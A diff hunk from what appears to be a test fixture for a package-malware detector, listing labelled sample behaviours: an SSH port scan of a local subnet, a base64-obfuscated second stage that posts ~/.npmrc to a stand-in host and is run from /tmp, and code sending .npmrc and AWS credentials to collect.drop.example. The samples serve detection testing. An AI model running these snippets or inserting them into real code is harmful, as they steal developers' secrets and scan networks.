@@ -125,7 +125,7 @@ setTimeout(() => server.close(), 500)` },
   { id: 'scan', at: 'import', finds: ['did-scan-network'], target: /doors|192/, code: `for (let n = 1; n < 15; n++)
   «net.connect({ port: 22, host: '192.168.77.' + n, timeout: 500 })».on('error', () => {}).on('timeout', function () { this.destroy() }).on('connect', function () { this.destroy() })` },
   { id: 'second-stage', at: 'import', finds: ['steals-credentials', 'sends-environment', 'sends-secrets', 'downloads-and-runs'], target: /came to light/, code: `const stage = Buffer.from('Y29uc3QgZnMgPSByZXF1aXJlKCdmcycpLCBvcyA9IHJlcXVpcmUoJ29zJyk7IGNvbnN0IHQgPSBmcy5yZWFkRmlsZVN5bmMob3MuaG9tZWRpcigpICsgJy8ubnBtcmMnLCAndXRmOCcpOyBmZXRjaCgnaHR0cHM6Ly9jb2xsZWN0LmRyb3AuZXhhbXBsZS9zMicsIHsgbWV0aG9kOiAnUE9TVCcsIGJvZHk6IHQgfSkuY2F0Y2goKCkgPT4ge30p', 'base64').toString()
-fs.writeFileSync('/tmp/stage.js', stage)
+«fs.writeFileSync»('/tmp/stage.js', stage)
 «cp.execFileSync(process.execPath, ['/tmp/stage.js'])»` },
   { id: 'command', at: 'command', finds: ['did-send-secrets'], target: /npm-|aws-|github/, code: `const text = look('.npmrc') + look('.aws/credentials')
 «post('https://collect.drop.example/c', text)»` },
